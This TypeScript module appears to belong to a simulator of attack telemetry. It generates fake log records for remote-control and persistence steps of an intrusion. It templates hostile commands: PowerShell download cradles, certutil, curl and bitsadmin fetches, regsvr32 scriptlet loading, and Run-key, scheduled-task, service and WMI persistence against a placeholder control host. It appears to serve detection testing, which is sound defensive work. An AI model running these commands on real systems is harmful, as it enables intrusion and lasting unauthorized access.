// Steps 3 and 4: the tool of remote control is fetched and started, and made to survive a restart.
import { encoded } from "../day/desk.ts";
import { traffic } from "../emit/fortigate.ts";
import {
  connects,
  type Process,
  pipe,
  profile,
  resolves,
  setsRegistry,
  sysmonTime,
  userName,
  writesFile,
} from "../emit/process.ts";
import { PROGRAMS, program } from "../emit/programs.ts";
import { subject, windows } from "../emit/security.ts";
import { WINDOWS_EVENTS } from "../emit/windows-event.ts";
import { SECOND, type World } from "../world.ts";
import { atVictim, held, run, type Scene, type Step } from "./scene.ts";

function callsHome(world: World, scene: Scene, time: number, process: Process): void {
  resolves(world, time, process, scene.controlHost, scene.controlAddress);
  const sourcePort = connects(world, time + 90, process, {
    ip: scene.controlAddress,
    name: scene.controlHost,
    port: 443,
  });
  traffic(world, time + 4 * SECOND, {
    from: process.host.ip,
    to: scene.controlAddress,
    port: 443,
    sourcePort,
    sent: world.random.int(900, 4000),
    received: world.random.int(200_000, 900_000),
  });
}

function cradle(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const url = `https://${scene.controlHost}/${random.hex(6)}`;
  const command = random.pick([
    `IEX (New-Object Net.WebClient).DownloadString('${url}')`,
    `$w=New-Object System.Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();iex $w.DownloadString('${url}')`,
    `iwr -useb ${url} | iex`,
    `Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm ${url}))))`,
  ]);
  const line = random.pick([
    `-nop -w hidden -enc ${encoded(command)}`,
    `-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encoded(command)}`,
    `-ep bypass -nop -w 1 -c "${command}"`,
    `-e ${encoded(command)}`,
  ]);
  const shell = run(world, time, held(scene.implant), PROGRAMS.powershell, line);
  windows(world, time + 700, shell.host, WINDOWS_EVENTS.scriptBlock, {
    MessageNumber: "1",
    MessageTotal: "1",
    ScriptBlockText: command,
    ScriptBlockId: `${random.hex(8)}-${random.hex(4)}-4${random.hex(3)}-a${random.hex(3)}-${random.hex(12)}`,
    Path: "",
  });
  callsHome(world, scene, time + SECOND, shell);
  scene.implant = shell;
  return time + 6 * SECOND;
}

function library(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const file = `${random.chance(0.5) ? `${profile(scene.victim.account)}\\AppData\\Roaming` : scene.folder}\\${random.pick(["libcef", "msvcp", "d3d11", random.hex(6)])}.${random.pick(["dll", "dat", "ocx", "tmp"])}`;
  writesFile(world, time, parent, file);
  const [host, line] = random.pick([
    [
      PROGRAMS.rundll32,
      `${file},${random.pick(["StartW", "#1", "DllGetClassObject", "Control_RunDLL"])}`,
    ],
    [PROGRAMS.regsvr32, `/s ${file}`],
    [PROGRAMS.regsvr32, `/s /n /u /i:https://${scene.controlHost}/${random.hex(4)}.sct scrobj.dll`],
  ] as const);
  const loaded = run(world, time + 2 * SECOND, parent, host, line);
  callsHome(world, scene, time + 4 * SECOND, loaded);
  scene.implant = loaded;
  return time + 9 * SECOND;
}

function download(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const file = `${profile(scene.victim.account)}\\AppData\\Local\\Temp\\${random.pick(["update", "svc", random.hex(6)])}.exe`;
  const [tool, line] = random.pick([
    [
      PROGRAMS.certutil,
      `-urlcache -split -f http://${scene.controlHost}/${random.hex(5)}.txt ${file}`,
    ],
    [PROGRAMS.curl, `-s -k -o ${file} https://${scene.controlHost}/${random.hex(5)}`],
    [
      program(
        "C:\\Windows\\System32\\bitsadmin.exe",
        "BITS administration utility",
        "Microsoft® Windows® Operating System",
        "Microsoft Corporation",
        "bitsadmin.exe",
      ),
      `/transfer ${random.hex(4)} /download /priority high https://${scene.controlHost}/${random.hex(5)} ${file}`,
    ],
  ] as const);
  const fetcher = run(world, time, parent, tool, line);
  callsHome(world, scene, time + SECOND, fetcher);
  writesFile(world, time + 4 * SECOND, fetcher, file);
  const implant = run(
    world,
    time + 8 * SECOND,
    parent,
    program(file),
    random.pick(["", "-k", "/quiet"]),
  );
  callsHome(world, scene, time + 9 * SECOND, implant);
  pipe(
    world,
    time + 10 * SECOND,
    implant,
    random.pick([
      `\\msagent_${random.hex(2)}`,
      `\\MSSE-${random.int(100, 9999)}-server`,
      `\\postex_${random.hex(4)}`,
      `\\status_${random.hex(2)}`,
    ]),
    "created",
  );
  scene.implant = implant;
  return time + 14 * SECOND;
}

export const CONTROL: Step = {
  id: "03-remote-control",
  tactic: "command-and-control",
  knownToRules: true,
  variants: [
    { technique: "T1059.001", title: "PowerShell lädt Schadcode nach", ...atVictim, run: cradle },
    {
      technique: "T1218",
      title: "Bibliothek über rundll32 oder regsvr32 gestartet",
      ...atVictim,
      run: library,
    },
    {
      technique: "T1105",
      title: "Fernsteuerung mit Bordmitteln nachgeladen",
      ...atVictim,
      run: download,
    },
  ],
};

function payload(scene: Scene): string {
  return `${scene.folder}\\${scene.alias}.${scene.alias.length % 2 === 0 ? "exe" : "dll"}`;
}

function launcher(scene: Scene): string {
  const file = payload(scene);
  return file.endsWith(".dll") ? `rundll32.exe ${file},Run` : file;
}

function runKey(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const user = `HKU\\${scene.victim.account.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${scene.alias}`;
  writesFile(world, time, parent, payload(scene));
  if (random.chance(0.6)) {
    const tool = run(
      world,
      time + 2 * SECOND,
      parent,
      PROGRAMS.reg,
      `add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\${random.pick(["Run", "RUN", "run"])} /v ${scene.alias} /t REG_SZ /d "${launcher(scene)}" /f`,
    );
    setsRegistry(world, time + 2100, tool, user, launcher(scene));
  } else {
    setsRegistry(
      world,
      time + 2 * SECOND,
      parent,
      user,
      `powershell -w hidden -c "${launcher(scene)}"`,
    );
  }
  return time + 4 * SECOND;
}

function scheduledTask(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const name = random.pick([
    `\\Microsoft\\Windows\\${scene.alias}`,
    scene.alias,
    `OneDrive Standalone Update Task ${random.hex(4)}`,
  ]);
  writesFile(world, time, parent, payload(scene));
  run(
    world,
    time + SECOND,
    parent,
    PROGRAMS.schtasks,
    `/create /tn "${name}" /tr "${launcher(scene)}" /sc ${random.pick(["minute /mo 30", "onlogon", "hourly"])} ${random.pick(["/f", "/ru SYSTEM /f", "/rl highest /f"])}`,
  );
  windows(world, time + 1600, parent.host, WINDOWS_EVENTS.taskCreated, {
    ...subject(parent.account, parent.logon),
    TaskName: name.startsWith("\\") ? name : `\\${name}`,
    TaskContent: `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition><Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers><Actions Context="Author"><Exec><Command>${launcher(scene)}</Command></Exec></Actions></Task>`,
  });
  return time + 3 * SECOND;
}

function service(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  writesFile(world, time, parent, payload(scene));
  run(
    world,
    time + SECOND,
    parent,
    PROGRAMS.sc,
    `create ${scene.alias} binPath= "${launcher(scene)}" start= auto${random.chance(0.5) ? ` DisplayName= "Windows ${scene.alias}"` : ""}`,
    { integrity: "High" },
  );
  windows(world, time + 1500, parent.host, WINDOWS_EVENTS.serviceInstalled, {
    ServiceName: scene.alias,
    ImagePath: launcher(scene),
    ServiceType: "user mode service",
    StartType: "auto start",
    AccountName: "LocalSystem",
  });
  return time + 3 * SECOND;
}

function wmiSubscription(world: World, scene: Scene, time: number): number {
  const parent = held(scene.implant);
  const shared = (at: number) => ({
    RuleName: "-",
    UtcTime: sysmonTime(at),
    Operation: "Created",
    User: userName(parent.account),
  });
  writesFile(world, time, parent, payload(scene));
  windows(world, time + 900, parent.host, WINDOWS_EVENTS.wmiFilter, {
    ...shared(time + 900),
    EventType: "WmiFilterEvent",
    EventNamespace: ' "root\\\\cimv2"',
    Name: ` "${scene.alias}"`,
    Query: ` "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"`,
  });
  windows(world, time + 1200, parent.host, WINDOWS_EVENTS.wmiConsumer, {
    ...shared(time + 1200),
    EventType: "WmiConsumerEvent",
    Name: ` "${scene.alias}"`,
    Type: "Command Line",
    Destination: ` "${launcher(scene).replaceAll("\\", "\\\\")}"`,
  });
  windows(world, time + 1500, parent.host, WINDOWS_EVENTS.wmiBinding, {
    ...shared(time + 1500),
    EventType: "WmiBindingEvent",
    Consumer: ` "CommandLineEventConsumer.Name=\\"${scene.alias}\\""`,
    Filter: ` "__EventFilter.Name=\\"${scene.alias}\\""`,
  });
  return time + 3 * SECOND;
}

export const PERSISTENCE: Step = {
  id: "04-persistence",
  tactic: "persistence",
  knownToRules: true,
  variants: [
    {
      technique: "T1547.001",
      title: "Autostart über einen Run-Schlüssel",
      ...atVictim,
      run: runKey,
    },
    { technique: "T1053.005", title: "Geplante Aufgabe angelegt", ...atVictim, run: scheduledTask },
    { technique: "T1543.003", title: "Dienst angelegt", ...atVictim, run: service },
    {
      technique: "T1546.003",
      title: "WMI-Ereignisabonnement angelegt",
      ...atVictim,
      run: wmiSubscription,
    },
  ],
};
